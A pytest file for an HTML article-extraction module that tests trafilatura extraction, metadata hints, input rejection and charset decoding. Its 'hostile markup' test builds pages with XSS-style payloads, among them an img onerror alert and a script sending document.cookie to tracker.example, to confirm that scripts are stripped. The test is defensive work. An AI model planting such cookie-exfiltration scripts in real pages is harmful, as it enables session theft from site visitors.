"""sitrep.ingest.html: charset handling and trafilatura extraction."""

from __future__ import annotations

import codecs

import pytest

from sitrep.errors import BinaryInputError, EmptyInputError, InputError, NoArticleError, TooLargeError
from sitrep.ingest import decode
from sitrep.ingest.html import declared_charset, decode_html, from_html, read
from sitrep.model import RawDocument


def _one(items) -> RawDocument:
    items = list(items)
    assert len(items) == 1
    assert isinstance(items[0], RawDocument), items[0]
    return items[0]


# ------------------------------------------------------------------- extraction


def test_article_text_is_paragraphs_separated_by_blank_lines(page, settings):
    doc = _one(read("saved/flood.html", page().encode("utf-8"), settings))
    assert doc.source == "saved/flood.html"
    assert doc.format == "html"
    assert doc.needs_cleaning is False
    paragraphs = doc.text.split("\n\n")
    assert paragraphs == [p.replace("\n", " ") for p in page.FLOOD]


def test_page_furniture_is_not_extracted(page, settings):
    doc = _one(read("flood.html", page().encode("utf-8"), settings))
    for furniture in ("cookies", "Accept all", "Most read", "All rights reserved", "Contact us", "Weather", "Sport"):
        assert furniture not in doc.text
    for teaser in page.TEASERS:
        assert teaser not in doc.text
    # the headline is metadata, not the first paragraph
    assert not doc.text.startswith("Flooding forces")


def test_kicker_above_the_headline_is_dropped(page, settings):
    html = page().replace("<h1>", '<p class="kicker">Tarrow floods</p>\n<h1>', 1)
    doc = from_html("p.html", html, settings, raw_hash="h")
    assert doc.text.split("\n\n")[0].startswith("Around 400 residents")
    assert doc.hints["title"] == "Flooding forces evacuation of Marrowby riverside district"


def test_section_heading_inside_the_article_is_kept(page, settings):
    paragraphs = (page.FLOOD[0], "<h2>What happens next</h2>", page.FLOOD[2])
    doc = from_html("p.html", page(paragraphs=paragraphs, escape_text=False), settings, raw_hash="h")
    assert doc.text.split("\n\n")[1] == "What happens next"


def test_metadata_hints(page, settings):
    html = page(authors=("Ilse Vantongeren", "Bram de Wilde"))
    doc = _one(read("flood.html", html.encode("utf-8"), settings))
    assert doc.hints == {
        "title": "Flooding forces evacuation of Marrowby riverside district",
        "authors": ["Ilse Vantongeren", "Bram de Wilde"],
        "published": "2024-03-14",
        "outlet": "The Kestrel Valley Courier",
        "language": "en",
    }


def test_published_from_time_element_only(page, settings):
    # no meta date: the <time datetime> in the byline is the evidence
    html = page(published=None, body_extra="").replace(
        '<p class="byline">', '<p class="byline"><time datetime="2023-11-02">2 November 2023</time> '
    )
    doc = from_html("p.html", html, settings, raw_hash="h")
    assert doc.hints["published"] == "2023-11-02"


def test_no_published_date_is_guessed_from_prose(page, settings):
    paragraphs = (page.FLOOD[0] + " The last comparable flood, on 12 May 2009, destroyed the footbridge.",) + page.FLOOD[1:]
    doc = from_html("p.html", page(published=None, paragraphs=paragraphs), settings, raw_hash="h")
    assert "published" not in doc.hints


def test_outlet_only_when_declared(page, settings):
    html = page(outlet=None)
    doc = from_html("p.html", html, settings, raw_hash="h", url="https://www.kestrel-courier.example/news/flood")
    assert "outlet" not in doc.hints  # never guessed from the hostname
    assert doc.hints["url"] == "https://www.kestrel-courier.example/news/flood"


def test_outlet_from_jsonld_publisher(page, settings):
    ld = (
        '<script type="application/ld+json">{"@context": "https://schema.org", "@graph": ['
        '{"@type": "NewsArticle", "headline": "x", "publisher": {"@type": "NewsMediaOrganization",'
        ' "name": "Tarrow Evening Post"}}]}</script>'
    )
    doc = from_html("p.html", page(outlet=None, head_extra=ld), settings, raw_hash="h")
    assert doc.hints["outlet"] == "Tarrow Evening Post"


def test_jsonld_publisher_with_unpaired_surrogate_is_no_outlet(page, settings):
    # "\ud800" is a valid JSON escape but not text: an outlet holding it could not be stored
    ld = ('<script type="application/ld+json">{"@graph": [{"publisher": {"name": "Tarrow \\ud800 Post"}},'
          ' {"publisher": {"name": "Tarrow Evening Post"}}]}</script>')
    doc = from_html("p.html", page(outlet=None, head_extra=ld), settings, raw_hash="h")
    assert doc.hints["outlet"] == "Tarrow Evening Post"
    ld = '<script type="application/ld+json">{"publisher": {"name": "\\ud800"}}</script>'
    doc = from_html("p.html", page(outlet=None, head_extra=ld), settings, raw_hash="h")
    assert "outlet" not in doc.hints


def test_jsonld_nested_deeper_than_the_parser_goes_is_ignored(page, settings):
    # json.loads raises RecursionError (not ValueError) on "[[[[...": it escaped the reader
    ld = '<script type="application/ld+json">' + "[" * 5000 + "]" * 5000 + "</script>"
    doc = _one(read("p.html", page(outlet=None, head_extra=ld).encode("utf-8"), settings))
    assert "outlet" not in doc.hints and doc.text


def test_outlet_ignores_publisher_url(page, settings):
    extra = '<meta property="article:publisher" content="https://social.example/kestrelcourier">'
    doc = from_html("p.html", page(outlet=None, head_extra=extra), settings, raw_hash="h")
    assert "outlet" not in doc.hints


def test_language_only_when_declared(page, settings):
    assert "language" not in from_html("p.html", page(lang=None), settings, raw_hash="h").hints
    assert from_html("p.html", page(lang="fr-CA"), settings, raw_hash="h").hints["language"] == "fr"


def test_canonical_url_is_a_hint_and_explicit_url_wins(page, settings):
    canonical = '<link rel="canonical" href="https://courier.example/2024/03/14/marrowby-flood">'
    html = page(head_extra=canonical)
    assert from_html("p.html", html, settings, raw_hash="h").hints["url"] == (
        "https://courier.example/2024/03/14/marrowby-flood"
    )
    doc = from_html("p.html", html, settings, raw_hash="h", url="https://mirror.example/x")
    assert doc.hints["url"] == "https://mirror.example/x"


def test_caller_hints_fill_gaps_but_page_wins(page, settings):
    hints = {"title": "Feed title", "published": "2024-03-13T23:00:00+00:00", "fetched": "2024-03-15T10:00:00Z"}
    doc = from_html("p.html", page(published=None), settings, raw_hash="h", hints=hints)
    assert doc.hints["title"] == "Flooding forces evacuation of Marrowby riverside district"
    assert doc.hints["published"] == "2024-03-13T23:00:00+00:00"
    assert doc.hints["fetched"] == "2024-03-15T10:00:00Z"
    assert hints == {"title": "Feed title", "published": "2024-03-13T23:00:00+00:00", "fetched": "2024-03-15T10:00:00Z"}


def test_raw_hash_is_sha256_of_the_file_bytes(page, settings):
    data = page().encode("utf-8")
    assert _one(read("p.html", data, settings)).raw_hash == decode.sha256(data)


def test_teaser_link_line_inside_article_is_dropped(page, settings):
    related = (
        '<p>Related: <a href="/a">Dam inspection ordered</a> · <a href="/b">Insurers brace for claims</a>'
        ' · <a href="/c">How to sandbag a doorway</a></p>'
    )
    paragraphs = (page.FLOOD[0], related, page.FLOOD[1])
    doc = from_html("p.html", page(paragraphs=paragraphs, escape_text=False), settings, raw_hash="h")
    assert "Dam inspection" not in doc.text
    assert "Around 400 residents" in doc.text and "Oskar Pellworth" in doc.text


def test_inline_links_in_prose_are_kept(page, settings):
    linked = page.FLOOD[0].replace("River Tarrow", '<a href="/t/tarrow">River Tarrow</a>').replace(
        "Quarry Lane", '<a href="/t/quarry-lane">Quarry Lane</a>'
    )
    doc = from_html("p.html", page(paragraphs=(linked,) + page.FLOOD[1:], escape_text=False), settings, raw_hash="h")
    assert "after the River Tarrow rose almost two metres" in doc.text


# ------------------------------------------------------------------- rejection


def test_page_without_article_raises_no_article(settings):
    html = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourline Daily - Home</title>
    <meta property="og:site_name" content="Harbourline Daily"></head><body>
    <div id="cookie-consent"><p>We and our 143 partners use cookies and similar technologies to store and access
    information on your device, to personalise content and ads, and to measure audiences. You can accept all
    cookies, reject optional ones or choose your settings at any time.</p><button>Accept all</button></div>
    <header><nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li>
    <li><a href="/business">Business</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
    <main><section class="top-stories"><h2>Top stories</h2><ul>
    <li><a href="/a">Ferry strike enters third day on Orrin Sound</a></li>
    <li><a href="/b">Fishing quotas cut again as stocks fall in the northern grounds</a></li>
    <li><a href="/c">Lighthouse at Skerry Point to become a maritime museum next spring</a></li>
    <li><a href="/d">Island council backs new harbour wall after winter storms</a></li></ul></section></main>
    <footer>&copy; Harbourline Daily 2023 · <a href="/terms">Terms</a> · <a href="/privacy">Privacy</a></footer>
    </body></html>"""
    with pytest.raises(NoArticleError) as info:
        list(read("home.html", html.encode("utf-8"), settings))
    assert info.value.source == "home.html"
    assert str(info.value).startswith("home.html: no article text found in the HTML page")


def test_too_few_words_is_no_article(page, settings):
    html = page(paragraphs=("Power was restored to Dunmere on Sunday evening.",))
    with pytest.raises(NoArticleError, match="no article text found in the HTML page"):
        from_html("short.html", html, settings, raw_hash="h")
    # the floor is a setting
    doc = from_html("short.html", html, settings.with_(min_article_words=5), raw_hash="h")
    assert doc.text == "Power was restored to Dunmere on Sunday evening."


@pytest.mark.parametrize("markup", ["", "   \n", "<html></html>", "<html><body></body></html>"])
def test_empty_markup_is_no_article(markup, settings):
    with pytest.raises(NoArticleError):
        from_html("e.html", markup, settings, raw_hash="h")


def test_empty_file_and_binary_file(settings):
    with pytest.raises(EmptyInputError):
        list(read("e.html", b"  \n", settings))
    with pytest.raises(BinaryInputError):
        list(read("img.html", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), settings))


def test_oversize_file(page, settings):
    data = page().encode("utf-8")
    with pytest.raises(TooLargeError):
        list(read("big.html", data, settings.with_(max_bytes=len(data) - 1)))


def test_errors_are_input_errors(settings):
    with pytest.raises(InputError):
        list(read("x.html", b"<html><body><nav><a href='/'>Home</a></nav></body></html>", settings))


# ------------------------------------------------------------------ hostile markup


def test_script_contents_never_reach_the_text(page, settings):
    hostile = (
        page.FLOOD[0][:120] + '<script>document.cookie="stolen";alert("EVIL_INLINE")</script>' + page.FLOOD[0][120:]
    )
    body_extra = (
        '<script>fetch("https://tracker.example/?c="+document.cookie)</script>'
        '<noscript><p>Enable JavaScript</p></noscript><style>p{color:red}</style>'
        '<img src=x onerror="alert(\'EVIL_ATTR\')">'
    )
    html = page(paragraphs=(hostile,) + page.FLOOD[1:], escape_text=False, body_extra=body_extra)
    html = html.replace("</head>", '<script>var EVIL_HEAD = 1;</script></head>')
    doc = from_html("x.html", html, settings, raw_hash="h")
    for needle in ("<script", "EVIL_INLINE", "EVIL_ATTR", "EVIL_HEAD", "document.cookie", "tracker.example", "color:red"):
        assert needle not in doc.text
    assert "Around 400 residents" in doc.text


def test_escaped_markup_in_prose_stays_inert_text(page, settings):
    # text that *shows* a tag (escaped in the source) is content, not markup
    paragraphs = (page.FLOOD[0] + " A prankster posted <b>FLOOD OVER</b> on the council website.",) + page.FLOOD[1:]
    doc = from_html("x.html", page(paragraphs=paragraphs), settings, raw_hash="h")
    assert "<b>FLOOD OVER</b>" in doc.text
    assert "<script" not in doc.text


# ------------------------------------------------------------------ charsets


def test_meta_charset_windows_1252_decodes_curly_quotes(page, settings):
    quote = "\u201cWe had hoped the barrier would hold,\u201d he said \u2013 the mayor\u2019s words."
    paragraphs = (page.FLOOD[0], quote + " " + page.FLOOD[1], page.FLOOD[2])
    data = page(charset="windows-1252", paragraphs=paragraphs).encode("cp1252")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    doc = _one(read("cp1252.html", data, settings))
    assert quote in doc.text
    assert "\u00e2\u20ac" not in doc.text  # no mojibake


def test_http_equiv_declaration(page, settings):
    html = page(charset=None, head_extra='<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1">')
    html = html.replace("Oskar Pellworth", "Oskar Pellw\u00f6rth \u2014 \u201cdeputy\u201d")
    data = html.encode("cp1252")  # ISO-8859-1 labels mean windows-1252 in browsers
    doc = _one(read("latin.html", data, settings))
    assert "Oskar Pellw\u00f6rth \u2014 \u201cdeputy\u201d" in doc.text


def test_declared_single_byte_charset_but_utf8_bytes(page, settings):
    html = page(charset="windows-1252").replace("Oskar Pellworth", "Oskar Pellw\u00f6rth")
    doc = _one(read("mislabelled.html", html.encode("utf-8"), settings))
    assert "Oskar Pellw\u00f6rth" in doc.text


def test_bom_beats_meta_declaration(page, settings):
    html = page(charset="windows-1252").replace("Oskar Pellworth", "Oskar Pellw\u00f6rth")
    data = codecs.BOM_UTF16_LE + html.encode("utf-16-le")
    assert "Oskar Pellw\u00f6rth" in _one(read("bom.html", data, settings)).text


def test_header_charset_beats_meta(page):
    html = page(charset="utf-8").replace("Oskar Pellworth", "Oskar Pellw\u00f6rth")
    text = decode_html("x", html.encode("iso-8859-15"), header_charset="iso-8859-15")
    assert "Oskar Pellw\u00f6rth" in text


def test_unknown_declared_charset_falls_back_to_guessing(page):
    html = page(charset="x-no-such-charset")
    assert decode_html("x", html.encode("utf-8")) == html


def test_python_only_codec_declared_falls_back_to_guessing(page, settings):
    # "undefined" is a Python codec that raises UnicodeError (not UnicodeDecodeError) on any bytes
    html = page(charset="undefined")
    assert decode_html("x", html.encode("utf-8")) == html
    assert _one(read("x.html", html.encode("utf-8"), settings)).text


def test_declared_codec_that_makes_lone_surrogates_is_not_trusted():
    # a page "in" unicode_escape or utf-7 decoded "\\ud800" or "+2AA-" to a lone surrogate: not text
    for charset, trap in (("unicode_escape", "\\ud800"), ("utf-7", "+2AA-")):
        html = f'<html><head><meta charset="{charset}"></head><body><p>Ferries {trap} resume.</p></body></html>'
        assert decode_html("x", html.encode("ascii")) == html


def test_xml_declaration_with_encoding(page, settings):
    html = '<?xml version="1.0" encoding="windows-1252"?>\n' + page(charset="windows-1252").replace(
        "Oskar Pellworth", "Oskar \u201cOzzy\u201d Pellworth"
    )
    doc = _one(read("x.xhtml", html.encode("cp1252"), settings))
    assert "Oskar \u201cOzzy\u201d Pellworth" in doc.text


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b'<meta charset="utf-8">', "utf-8"),
        (b"<meta charset=windows-1252>", "cp1252"),
        (b'<META HTTP-EQUIV="content-type" CONTENT="text/html; charset=Shift_JIS">', "cp932"),
        (b'<meta charset="latin1">', "cp1252"),
        (b'<meta charset="utf-16">', "utf-8"),
        (b'<meta name="description" content="no charset here">', None),
        (b'<meta charset="bogus-9">', None),
    ],
)
def test_declared_charset(head, expected):
    assert declared_charset(b"<html><head>" + head + b"</head>") == expected
